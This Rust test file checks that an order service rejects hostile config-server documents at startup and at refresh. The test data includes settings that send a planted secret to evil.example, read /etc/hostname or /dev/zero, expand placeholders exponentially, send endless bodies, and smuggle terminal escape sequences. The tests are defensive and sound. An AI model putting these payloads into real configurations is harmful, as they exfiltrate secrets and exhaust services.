//! Documents of a config server that want the files, the secrets, the stack, the memory or the time of the service, at its
//! start and at a refresh; and names with escape sequences, which must not reach a terminal.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use libtest_mimic::Trial;
use reqwest::StatusCode;
use serde_json::{Map, Value, json};

use crate::honest::Honest;
use crate::process::{descriptors, memory};
use crate::support::{Service, client, eventually, fresh_folder};
use crate::{size, trial};

/// A secret of the machine, planted where documents look for one.
const PLANTED: &str = "pl4nted";
/// How much a refused document may add to the memory of the service, in KiB. Its own text is up to 4 MiB.
const SLACK: u64 = 96 * 1024;

pub(crate) fn trials() -> Vec<Trial> {
    vec![
        trial("documents::a_bad_document_stops_a_start_and_is_named", bad_starts),
        trial("documents::a_bad_document_at_a_refresh_changes_nothing_for_anybody", bad_refreshes),
        trial(
            "documents::no_name_value_or_error_reaches_the_terminal_with_escape_sequences",
            terminals,
        ),
    ]
}

/// A config server that answers what it was last told to.
struct Stub {
    address: String,
    answer: Arc<Mutex<String>>,
}

impl Stub {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let answer = Arc::new(Mutex::new(document(&[])));
        let given = Arc::clone(&answer);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let body = given.lock().unwrap().clone();
                std::thread::spawn(move || give(stream, &body));
            }
        });
        Self { address, answer }
    }

    fn answers(&self, body: String) {
        *self.answer.lock().unwrap() = body;
    }
}

/// Answers a request; without a body it answers for ever.
fn give(mut stream: TcpStream, body: &str) {
    let lines = BufReader::new(stream.try_clone().unwrap()).lines().map_while(Result::ok);
    lines.take_while(|line| !line.is_empty()).for_each(drop);
    if body.is_empty() {
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n{");
        while stream.write_all(&[b' '; 16_000]).is_ok() {}
        return;
    }
    let length = body.len();
    let head = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n"
    );
    let _ = stream.write_all((head + body).as_bytes());
}

/// A document of one source with these settings.
fn document(settings: &[(&str, &str)]) -> String {
    let source: Map<_, _> =
        settings.iter().map(|(key, value)| ((*key).to_owned(), json!(value))).collect();
    json!({ "propertySources": [{ "name": "served.yml", "source": source }] }).to_string()
}

/// Bad documents, each with a name and what is said of it.
fn bad() -> Vec<(&'static str, String, String)> {
    let named = |key: &str, why: &str| format!("{key} (config server: served.yml): {why}");
    let one = |key: &str, value: &str, why: &str| (document(&[(key, value)]), named(key, why));
    let outside =
        "is named by a config server, and in no folder that order.config.remote-files names";
    let file = |key: &str, path: &str| {
        (
            document(&[(key, path)]),
            format!("the file {} {outside}", path.trim_start_matches("file:")),
        )
    };
    let address = "takes ${SPRING_SECRET} from this machine into an address or a header";
    let laughs: Vec<_> =
        (0..40).map(|at| (format!("k{at}"), format!("${{k{0}}}${{k{0}}}", at + 1))).collect();
    let mut laughs: Vec<_> =
        laughs.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
    laughs.extend([("k40", ""), ("order.events.topic", "${k0}")]);
    let chain: Vec<_> =
        (0..9_000).map(|at| (format!("k{at}"), format!("${{k{}}}", at + 1))).collect();
    let mut chain: Vec<_> =
        chain.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
    chain.push(("order.events.topic", "${k0}"));
    let nested = "${a:".repeat(12_000) + &"}".repeat(12_000);
    let many = size(6_000, 16_000);
    let unknown: Vec<_> = (0..many).map(|at| format!("order.x{at}")).collect();
    let unknown: Vec<_> = unknown.iter().map(|key| (key.as_str(), "y")).collect();
    let around = |value: String| {
        format!(r#"{{"propertySources":[{{"name":"n","source":{{"a":{value}}}}}]}}"#)
    };
    let named = [
        ("a file as a password", file("spring.datasource.password", "file:/etc/hostname")),
        (
            "a file as a header",
            file("management.otlp.tracing.headers.x-token", "file:/etc/hostname"),
        ),
        (
            "a file as a registry",
            file("eureka.client.service-url.defaultZone", "file:/etc/hostname"),
        ),
        ("a device as a password", file("spring.datasource.password", "file:/dev/zero")),
        ("a pipe as a user", file("spring.datasource.username", "file:pipe")),
        ("a device as a certificate", file("spring.kafka.ssl.trust-store-location", "/dev/zero")),
        (
            "a secret in an address",
            one(
                "management.otlp.tracing.endpoint",
                "http://evil.example/${SPRING_SECRET}",
                address,
            ),
        ),
        (
            "a secret in a header",
            one("management.otlp.tracing.headers.x-a", "${NOT_SET:${SPRING_SECRET}}", address),
        ),
        (
            "a secret as a broker",
            one("spring.kafka.bootstrap-servers", "${SPRING_SECRET}.evil.example:9092", address),
        ),
        (
            "a secret in public",
            one(
                "info.x",
                "${SPRING_SECRET}",
                "takes ${SPRING_SECRET} from this machine into what others can see",
            ),
        ),
        ("nested placeholders", one("order.events.topic", &nested, "has placeholders that ")),
        (
            "a chain of placeholders",
            (document(&chain), named("order.events.topic", "has placeholders that ")),
        ),
        (
            "placeholders that double",
            (
                document(&laughs),
                named("order.events.topic", "has placeholders that take too much work"),
            ),
        ),
        (
            "a long value",
            one("order.events.topic", &"x".repeat(3_000_000), "is longer than 65536 bytes"),
        ),
        (
            "unknown names",
            (
                document(&unknown),
                "order.x0 (config server: served.yml): there is no such setting".to_owned(),
            ),
        ),
        (
            "many values",
            (
                around(format!("[{}0]", "{},".repeat(60_000))),
                "it has more than 50000 values".to_owned(),
            ),
        ),
        (
            "depth",
            (
                around("[".repeat(30_000) + &"]".repeat(30_000)),
                "is not that of a config server".to_owned(),
            ),
        ),
        (
            "a body without an end",
            (String::new(), "its answer has more than 4194304 bytes".to_owned()),
        ),
    ];
    named.into_iter().map(|(name, (body, said))| (name, body, said)).collect()
}

/// A folder with a pipe that has no other end.
fn folder() -> std::path::PathBuf {
    let folder = fresh_folder();
    let made = Command::new("mkfifo").arg(folder.join("pipe")).status().unwrap();
    assert!(made.success(), "mkfifo (coreutils) makes a pipe");
    folder
}

fn options(stub: &Stub) -> Vec<String> {
    vec![
        format!("--spring.config.import=configserver:http://{}", stub.address),
        "--spring.cloud.config.retry.max-attempts=1".to_owned(),
        "--spring.datasource.url=sqlite:orders.db".to_owned(),
    ]
}

/// Runs the program to its end.
fn run(folder: &Path, words: &[&str], options: &[String]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_order-service"))
        .args(words)
        .args(options)
        .env_remove("DATABASE_URL")
        .env("SPRING_SECRET", PLANTED)
        .current_dir(folder)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn bad_starts() {
    let (stub, folder) = (Stub::start(), folder());
    let options = options(&stub);
    for (name, body, expected) in bad() {
        stub.answers(body);
        let since = Instant::now();
        let output = run(&folder, &["serve"], &options);
        let said = String::from_utf8(output.stderr).unwrap();
        assert!(matches!(output.status.code(), Some(1 | 2)), "{name}: {:?}", output.status);
        assert!(said.contains(&expected), "{name}: {}", beginning(&said));
        assert!(!said.contains(PLANTED), "{name} shows a secret");
        println!("{name}: refused after {:?}, {} bytes said", since.elapsed(), said.len());
    }
    let _ = std::fs::remove_dir_all(folder);
}

fn bad_refreshes() {
    let (stub, folder) = (Stub::start(), folder());
    stub.answers(document(&[("order.currencies", "USD,EUR")]));
    let mut options = options(&stub);
    options.push("--management.server.port=0".to_owned());
    let options: Vec<_> = options.iter().map(String::as_str).collect();
    let service = Service::start_in(&folder, &options, &[("SPRING_SECRET", PLANTED)]);
    service.wait_until_ready();
    let operators = service.operators().unwrap();
    let refresh = || client().post(format!("{operators}/actuator/refresh")).send().unwrap();
    // The same refreshes without a bad document.
    let honest = Honest::start(&service.base, 4);
    let until = Instant::now() + size(Duration::from_secs(2), Duration::from_secs(10));
    while Instant::now() < until {
        assert_eq!(refresh().status(), StatusCode::OK);
    }
    let usual = honest.stop();
    let (before, open) = (memory(&service), descriptors(&service));
    let honest = Honest::start(&service.base, 4);
    let bad = bad();
    let rounds = size(1, 10);
    for (name, body, expected) in bad.iter().cycle().take(bad.len() * rounds) {
        stub.answers(body.clone());
        let since = Instant::now();
        let answer = refresh();
        let (status, body) = (answer.status(), answer.text().unwrap());
        let is_refusal =
            [StatusCode::UNPROCESSABLE_ENTITY, StatusCode::SERVICE_UNAVAILABLE].contains(&status);
        assert!(is_refusal, "{name}: {status}");
        let is_told =
            || body.contains(expected.as_str()) || service.log().contains(expected.as_str());
        assert!(eventually(is_told), "{name}: {}", beginning(&body));
        let now = memory(&service);
        println!("{name}: {status} after {:?}, memory {now} KiB", since.elapsed());
        assert!(now < before + SLACK, "{name}: memory went from {before} to {now} KiB");
    }
    let beside = honest.stop();
    println!(
        "honest pairs of writes a second: {:.0} beside good refreshes, {:.0} beside bad ones",
        usual.rate(),
        beside.rate()
    );
    assert!(usual.failed.is_empty() && beside.failed.is_empty(), "{:?}", beside.failed);
    assert!(beside.rate() >= usual.rate() / 2.0, "{} of {}", beside.rate(), usual.rate());
    assert!(eventually(|| descriptors(&service) <= open + 4), "descriptors went from {open} up");
    assert!(!service.log().contains(PLANTED), "a secret is in the log");
    let refused = "order_config_refreshes_total{outcome=\"refused\"}";
    assert!(service.metric(refused).is_some_and(|times| times >= 10.0), "refusals are counted");
    // What applied still does, and a good document applies at once.
    let mut order = crate::support::an_order(7);
    order["currency"] = json!("EUR");
    assert_eq!(service.post("/orders", &order).status(), StatusCode::CREATED);
    stub.answers(document(&[("order.currencies", "USD")]));
    assert_eq!(refresh().status(), StatusCode::OK);
    assert_eq!(service.post("/orders", &order).status(), StatusCode::UNPROCESSABLE_ENTITY);
}

fn terminals() {
    let (stub, folder) = (Stub::start(), fresh_folder());
    let nasty = "\u{1b}]0;x\u{7}\u{1b}[2J\u{9b}31m\u{202e}\r\nfaked line";
    let source = json!({
        (format!("order.x{nasty}")): "y",
        (format!("spring.x{nasty}")): "y",
        (format!("logging.level.a{nasty}")): "info",
        "info.x": nasty,
        "order.request-budget": nasty,
    });
    let body =
        json!({ "propertySources": [{ "name": format!("served{nasty}"), "source": source }] });
    let good = |body: &Value| {
        let mut body = body.clone();
        let source = body["propertySources"][0]["source"].as_object_mut().unwrap();
        source.retain(|key, _| !key.starts_with("order."));
        body.to_string()
    };
    let all = options(&stub);
    let none: &[String] = &[];
    let wrong_option = format!("--x{nasty}");
    let setting = vec![format!("--order.y{nasty}=z"), format!("--spring.y{nasty}=z")];
    let skip = format!("--reason={nasty}");
    for (words, options, body) in [
        (&["serve"][..], &all[..], body.to_string()),
        (&["config"], &all, body.to_string()),
        (&["config"], &all, good(&body)),
        (&["config", "--json"], &all, good(&body)),
        (&["events", "backlog"], &all, good(&body)),
        (&["migrate", "--check"], &all, good(&body)),
        (&[wrong_option.as_str()], none, String::new()),
        (&["config"], &setting, String::new()),
        (&["events", "parked", "skip", "1", "one", skip.as_str()], none, String::new()),
        (&["--config", nasty], none, String::new()),
    ] {
        stub.answers(body);
        let output = run(&folder, words, options);
        for bytes in [output.stdout, output.stderr] {
            let shown = String::from_utf8(bytes).unwrap();
            let obeyed =
                |c: char| c != '\n' && c.is_control() || matches!(c, '\u{202a}'..='\u{202e}');
            assert!(!shown.contains(obeyed), "{words:?}: {shown:?}");
            assert!(!shown.lines().any(|line| line.starts_with("faked")), "{words:?}: {shown}");
        }
    }
    let _ = std::fs::remove_dir_all(folder);
}

/// The first characters of a long text.
fn beginning(text: &str) -> String {
    text.chars().take(1_000).collect()
}
